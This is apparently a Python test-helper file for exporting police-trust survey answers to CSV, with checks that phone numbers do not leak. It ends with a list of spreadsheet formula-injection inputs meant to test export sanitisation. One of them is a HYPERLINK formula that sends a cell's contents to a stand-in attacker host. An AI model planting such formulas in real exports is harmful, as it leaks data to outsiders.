"""Rows and readers for the export tests: stations, residents, responses, CSV, phone checks."""

from __future__ import annotations

import csv
import datetime as dt
import io
from itertools import count

from sqlalchemy import insert

from feedback_bot.models import Answer, Resident, Response, Station
from feedback_bot.phones import national_form
from feedback_bot.services.stations import match_key

UTC = dt.UTC
T0 = dt.datetime(2026, 3, 10, 9, 0, tzinfo=UTC)
TRUST_QUESTIONS = (
    "trust_police",
    "safe_after_dark",
    "police_respect",
    "report_crime",
    "women_access",
    "comment",
)
_phones = count(7701000000)


def new_phone() -> str:
    return f"+964{next(_phones)}"


def add_station(session, code="BGD-01", governorate="Baghdad") -> Station:
    station = Station(
        code=code,
        match_key=match_key(code),
        governorate=governorate,
        name_ar="الكرادة",
        name_ckb="کەڕادە",
        name_kmr="Kerade",
        name_en="Karrada",
    )
    session.add(station)
    session.flush()
    return station


def add_resident(session, vault, station, *, phone=None, gender=1, age_band=3) -> Resident:
    phone = phone or new_phone()
    resident = Resident(
        phone_lookup=vault.lookup_hash(phone),
        phone_encrypted=vault.encrypt(phone),
        respondent_id=vault.respondent_id(phone),
        channel="whatsapp",
        language="ar",
        consented_at=T0,
        station_id=station.id,
        gender=gender,
        age_band=age_band,
    )
    session.add(resident)
    session.flush()
    return resident


def add_response(
    session,
    resident,
    station,
    answers,
    *,
    started_at=T0,
    wave=1,
    poll_id="trust",
    status="completed",
    language="ar",
) -> Response:
    """A response with ``answers``: {question_id: code, text, or (status, None)}."""
    response = Response(
        resident_id=resident.id,
        poll_id=poll_id,
        poll_version=1,
        wave=wave,
        station_id=station.id,
        channel="whatsapp",
        language=language,
        status=status,
        started_at=started_at,
        completed_at=started_at + dt.timedelta(minutes=5) if status == "completed" else None,
    )
    session.add(response)
    session.flush()
    rows = []
    for minute, (question_id, value) in enumerate(answers.items(), start=1):
        row = {
            "response_id": response.id,
            "question_id": question_id,
            "answer_code": None,
            "answer_text": None,
            "status": "answered",
            "answered_at": started_at + dt.timedelta(minutes=minute),
        }
        if isinstance(value, tuple):
            row["status"] = value[0]
        elif isinstance(value, int):
            row["answer_code"] = value
        else:
            row["answer_text"] = value
        rows.append(row)
    if rows:
        session.execute(insert(Answer), rows)
    return response


def full_trust(comment="Thanks") -> dict:
    return {
        "trust_police": 2,
        "safe_after_dark": 5,
        "police_respect": 1,
        "report_crime": 3,
        "women_access": 1,
        "comment": comment,
    }


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def export(runner, tmp_path, *args, name="out.csv"):
    out = tmp_path / name
    result = runner.invoke(args=["export", "answers", "--out", str(out), *args])
    assert result.exit_code == 0, result.output
    return out.read_bytes().decode("utf-8"), result


def phone_forms(phone: str) -> list[str]:
    return [phone, phone.lstrip("+"), national_form(phone)]


def assert_no_phone_numbers(text: str, phones) -> None:
    for phone in phones:
        for form in phone_forms(phone):
            assert form not in text, "a phone number leaked into an export"


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]
